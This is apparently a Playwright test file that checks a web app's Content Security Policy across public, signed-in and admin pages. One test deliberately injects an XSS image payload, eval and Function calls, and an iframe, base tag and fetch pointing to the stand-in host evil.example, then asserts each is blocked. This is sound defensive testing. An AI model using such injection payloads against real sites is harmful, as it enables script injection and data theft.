import { readFile } from "node:fs/promises";
import { expect, test, type BrowserContext, type Page } from "@playwright/test";
import { account } from "./demo-accounts";
import { APP, SIGNED_IN, STEPS_IN, WAYS_IN } from "./pages";
import { signIn } from "./people";

/** Pages that the server makes. */
const SERVED = ["/api/docs", "/api/redoc", "/identity/o/authorize", "/identity/o/device", "/outbox/"];

/** A form whose fields come with scripts: calendars, clocks, windows for choosing another row. */
const FORM_WITH_SCRIPTS = "/admin/django_celery_beat/periodictask/add/";
/** Lists, with filters, a search and a calendar, of rows that open as a form, or as a page with tables in it. */
const LISTS = ["/admin/core/user/", "/admin/sports/match/"];

/** Colours come from one table, so these few stand for all pages in the other theme. */
const IN_LIGHT = ["/", "/films/1", "/scores", "/sign-in", "/api/docs", "/identity/o/device"];

/** What a page asks for in vain without any harm: who is asked whether they are signed in says no. */
const EXPECTED = [
  /Failed to load resource: the server responded with a status of (400|401|404|409|410)/,
  // Redoc would show its maker's mark from another host; it is not let, and shows none.
  /cdn\.redoc\.ly\/redoc\/logo-mini\.svg/,
  // The script is the one that listens here; a mail is shown where none may run.
  /Blocked script execution in '[^']*\/outbox\/[^']*\/page'/,
];

/** Collects what a page was kept from, and whatever it complains of. */
async function listening(context: BrowserContext): Promise<{ page: Page; complaints: string[] }> {
  const complaints: string[] = [];
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      console.error(`kept from: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  const page = await context.newPage();
  const note = (text: string) => {
    if (!EXPECTED.some((expected) => expected.test(text))) complaints.push(`${page.url()}: ${text}`);
  };
  page.on("console", (message) => message.type() === "error" && note(message.text()));
  page.on("pageerror", (error) => note(String(error)));
  return { page, complaints };
}

async function open(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await page.waitForLoadState("load");
  await expect(page.getByRole("status", { name: /Loading/ })).toHaveCount(0);
}

async function firstRow(page: Page): Promise<string> {
  const row = page.locator("#result_list tbody a").first();
  return (await row.getAttribute("href")) ?? "";
}

async function hasTheme(page: Page, theme: string): Promise<void> {
  expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBe(theme);
}

async function signInAs(page: Page, role: string): Promise<void> {
  const { username, password } = await account(role);
  await signIn(page, username, password);
}

test("no page is kept from anything it needs", async ({ browser, baseURL }) => {
  const context = await browser.newContext({ baseURL, colorScheme: "dark" });
  const { page, complaints } = await listening(context);
  for (const path of [...WAYS_IN, ...STEPS_IN, ...SERVED, "/"]) await open(page, path);
  await hasTheme(page, "dark");
  await signInAs(page, "user");
  for (const path of [...APP, ...SIGNED_IN, ...SERVED]) await open(page, path);
  expect(complaints).toEqual([]);
  await context.close();
});

test("no page is kept from anything it needs in the light theme", async ({ browser, baseURL }) => {
  const context = await browser.newContext({ baseURL, colorScheme: "light" });
  const { page, complaints } = await listening(context);
  for (const path of IN_LIGHT) await open(page, path);
  await open(page, "/nowhere");
  await hasTheme(page, "light");
  expect(complaints).toEqual([]);
  await context.close();
});

test("the administration is kept from nothing it needs", async ({ browser, baseURL }) => {
  const context = await browser.newContext({ baseURL });
  const { page, complaints } = await listening(context);
  await open(page, "/admin/login/");
  await signInAs(page, "admin");
  for (const path of ["/admin/", FORM_WITH_SCRIPTS]) await open(page, path);
  for (const path of LISTS) {
    await open(page, path);
    await open(page, await firstRow(page));
  }
  expect(complaints).toEqual([]);
  await context.close();
});

test("markup that somebody smuggled in neither runs nor is sent anywhere", async ({ page }) => {
  const kept = new Set<string>();
  await page.exposeFunction("noteKept", (directive: string) => kept.add(directive));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      (window as unknown as { noteKept(directive: string): void }).noteKept(event.effectiveDirective);
    });
  });
  await page.goto("/");
  const attempts = await page.evaluate(async () => {
    // The tool that drives the browser may eval until the page takes over.
    await new Promise((done) => setTimeout(done, 0));
    const outcomes: Record<string, string> = {};
    const attempt = (name: string, act: () => void) => {
      try {
        act();
        outcomes[name] = "done";
      } catch (error) {
        outcomes[name] = (error as Error).name;
      }
    };
    attempt("markup", () => (document.body.innerHTML += "<img src=x onerror='window.ran = 1'>"));
    attempt("eval", () => (0, eval)("window.ran = 2"));
    attempt("code from text", () => new Function("window.ran = 3")());
    attempt("address of code", () => (document.createElement("script").src = "/theme.js"));
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example/";
    document.body.append(frame);
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.append(base);
    await fetch("https://evil.example/", { mode: "no-cors" }).catch(() => (outcomes.send = "TypeError"));
    return outcomes;
  });
  expect(attempts).toEqual({
    markup: "TypeError",
    eval: "EvalError",
    "code from text": "EvalError",
    "address of code": "TypeError",
    send: "TypeError",
  });
  await expect
    .poll(() => [...kept])
    .toEqual(expect.arrayContaining(["base-uri", "connect-src", "frame-src", "require-trusted-types-for"]));
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
  expect(await page.evaluate(() => document.baseURI)).not.toContain("evil");
});

test("every page of the router is opened here", async () => {
  const sources = await Promise.all(
    ["router.tsx", "pages/ways-in.tsx", "pages/settings/routes.tsx"].map((name) =>
      readFile(new URL(`../src/app/${name}`, import.meta.url), "utf8"),
    ),
  );
  const named = sources.flatMap((source) => {
    const paths = [...source.matchAll(/(?:path: |framed\(\s*)"([^"*]+)"/g)].map(([, path = ""]) => path);
    expect(paths).not.toEqual([]);
    return paths;
  });
  const opened = [...APP, ...WAYS_IN, ...STEPS_IN, ...SIGNED_IN].map((path) => path.replace(/\?.*/, ""));
  const missing = named.filter((path) => {
    const shape = new RegExp(`/${path.replaceAll(/:[a-z]+/gi, "[^/]+")}$`);
    return path !== "settings" && !opened.some((each) => shape.test(each));
  });
  expect(missing).toEqual([]);
});
